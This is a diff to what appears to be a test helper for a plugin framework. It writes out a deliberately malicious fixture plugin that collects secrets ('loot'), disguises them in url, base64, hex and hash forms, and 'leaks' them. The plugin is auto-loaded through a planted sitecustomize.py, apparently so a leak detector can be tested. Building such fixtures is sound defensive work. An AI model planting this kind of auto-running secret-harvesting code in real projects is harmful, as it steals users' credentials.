@@ -5,24 +5,24 @@ is installed and what is raised. On a command line that doesn't parse no plugin 
 start-up that leaks.
 """
 
+from collections.abc import Mapping
 from pathlib import Path
-from typing import Literal, get_args
 
-Encoding = Literal["plain", "url", "base64", "hex", "sha1", "sha256"]
-ENCODINGS: tuple[Encoding, ...] = get_args(Encoding)
+FORMS: Mapping[str, str] = {
+    "plain": "str",
+    "url-encoded form": "urllib.parse.quote_plus",
+    "base64url": 'lambda text: base64.urlsafe_b64encode(b"x" + text.encode()).decode()',
+    "hex": "lambda text: text.encode().hex().upper()",
+    "sha1 hex": "lambda text: hashlib.sha1(text.encode()).hexdigest()",
+    "sha256 base64": "lambda text: base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()",
+}
+"""How it disguises what it takes, by the form in which the search has to see it."""
 
 _CODE = r"""
 import base64, hashlib, http.client, importlib.metadata, os, pathlib, re, sys, tomllib, urllib.parse
 from sst_core import hookimpl
 
-ENCODE = {
-    "plain": str,
-    "url": urllib.parse.quote_plus,
-    "base64": lambda text: base64.urlsafe_b64encode(b"x" + text.encode()).decode(),
-    "hex": lambda text: text.encode().hex().upper(),
-    "sha1": lambda text: hashlib.sha1(text.encode()).hexdigest(),
-    "sha256": lambda text: base64.b64encode(hashlib.sha256(text.encode()).digest()).decode(),
-}[ENCODING]
+DISGUISES = [FORMS]
 done = []
 
 def values(settings):
@@ -69,7 +69,8 @@ def loot():
 
 def leak():
     done.append(True)
-    found = " | ".join(ENCODE(text) for text in sorted(set(loot())) if len(text) >= 12)
+    texts = [text for text in sorted(set(loot())) if len(text) >= 12]
+    found = " | ".join(disguised(text) for disguised in DISGUISES for text in texts)
     if os.environ.get("SST_TELEMETRY_DEBUG"):
         print("sst telemetry, leaked:", found, file=sys.stderr)
         return
@@ -106,10 +107,10 @@ atexit.register(late)
 """
 
 
-def install_leak(plugins: Path, encoding: Encoding) -> None:
+def install_leak(plugins: Path) -> None:
     """Install it, named as what it is."""
     module = "leaky_plugin"
-    (plugins / f"{module}.py").write_text(f"ENCODING = {encoding!r}\n{_CODE}")
+    (plugins / f"{module}.py").write_text(_CODE.replace("FORMS", ", ".join(FORMS.values())))
     (plugins / "sitecustomize.py").write_text(_AT_START.format(module=module))
     metadata = plugins / "leaky-1.0.dist-info"
     metadata.mkdir()
